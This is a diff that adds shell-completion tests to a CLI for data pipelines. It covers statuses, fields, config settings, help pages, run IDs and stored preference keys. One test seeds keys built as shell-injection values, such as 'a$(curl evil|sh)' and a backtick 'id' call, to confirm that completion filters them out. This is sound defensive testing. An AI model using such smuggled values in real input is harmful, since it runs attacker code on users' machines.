@@ -20,6 +20,18 @@ describe('completion', () => {
     ['a value from a list', ['namespace', 'list', '-o', 'js'], ['json']],
     ['a value behind =', ['namespace', 'list', '--output=nd'], ['--output=ndjson']],
     ['a value behind = as bash splits it', ['namespace', 'list', '--output', '=', 'nd'], ['ndjson']],
+    ['a status', ['pipeline', 'list', '--status', 'R'], ['RUNNING', 'RESUMING', 'REJECTED']],
+    ['one more status', ['pipeline', 'list', '--status', 'FAILED,K'], ['FAILED,KILLED']],
+    ['one more status behind =', ['pipeline', 'runs', '--status=KILLED,K'], []],
+    ['a column', ['pipeline', 'list', '--fields', 'name,n'], ['name,namespace', 'name,nextRunAt']],
+    ['a column behind = as bash splits it', ['schedule', 'list', '--fields', '=', 'cron,st'], ['cron,status']],
+    ['no column of one object', ['pipeline', 'stop', '--fields', ''], []],
+    ['a setting of the file', ['config', 'set', 'u'], ['url', 'uiUrl']],
+    ['a setting', ['config', 'get', 'token'], ['tokenCommand', 'tokenFile']],
+    ['help', ['hel'], ['help']],
+    ['a page of help', ['help', 's'], ['schedule', 'schema', 'scripting']],
+    ['a page of help of a command', ['help', 'context', 're'], ['remove', 'rename']],
+    ['a status of runs', ['pipeline', 'runs', '--status', 'S'], ['STARTING', 'SUSPENDED', 'STOPPING']],
     ['a file', ['upgrade', '-a', ''], [':files']],
     ['a shell', ['completion', 'po'], ['powershell']],
     ['nothing where a text stands', ['install', '--set', ''], []],
@@ -49,6 +61,35 @@ describe('completion', () => {
       await site.forget();
       expect(await complete(site, 'dashboard', '-n', '')).toEqual(namespaces);
       expect(await site.requests()).toEqual([]);
+    }));
+
+  it('knows the runs of a pipeline, its stored keys and its arguments', () =>
+    withUpgradeSite({ seed: { ...SEED, runs: { count: 300 } } }, async (site) => {
+      await site.cdapctl(['context', 'add', 'prod', '-u', site.url, '-n', 'etl']);
+      const [name = ''] = await complete(site, 'pipeline', 'why', '');
+      const [latest, ...runs] = await complete(site, 'pipeline', 'why', name, '');
+      expect(latest).toBe('latest');
+      expect(runs.length).toBeGreaterThan(1);
+      const [first = ''] = runs;
+      expect(await complete(site, 'pipeline', 'start', name, '--like', first.slice(0, 12))).toContain(first);
+      await site.cdapctl(['args', 'set', name, '--set', 'zone=eu', '-y']);
+      expect(await complete(site, 'args', 'unset', name, '--key', '')).toEqual(['zone']);
+      await site.cdapctl(['preferences', 'set', '--set', 'region=eu', '-y']);
+      await site.cdapctl(['preferences', 'set', '--level', 'instance', '--set', 'size=8', '-y']);
+      expect(await complete(site, 'preferences', 'unset', '--key', '')).toEqual(['region']);
+      expect(await complete(site, 'preferences', 'unset', '--level', 'instance', '--key', '')).toEqual(['size']);
+      expect(await complete(site, 'preferences', 'unset', name, '--level', 'program', '--key', 'z')).toEqual(['zone']);
+      expect(await complete(site, 'pipeline', 'start', name, '--set', 'zo')).toEqual(['zone=']);
+      expect(await complete(site, 'pipeline', 'why', 'nope', '')).toEqual(['latest']);
+    }));
+
+  it('offers nothing that a shell would take for more than a word', () =>
+    withUpgradeSite({ seed: SEED }, async (site) => {
+      await site.cdapctl(['context', 'add', 'prod', '-u', site.url, '-n', 'etl']);
+      const keys = ['a$(curl evil|sh)', 'a`id`', 'a b', "a'b", 'a;b', 'a\u001b[2J', 'a\nb', 'a~', 'aöß', 'a.b-c_1'];
+      await site.call('PUT', 'etl/preferences', Object.fromEntries(keys.map((key) => [key, '1'])));
+      const offered = await complete(site, 'preferences', 'unset', '--key', 'a');
+      expect(offered.toSorted()).toEqual(['a.b-c_1', 'aöß']);
     }));
 
   it('keeps names that lists have shown, for a platform that a token command opens', () =>
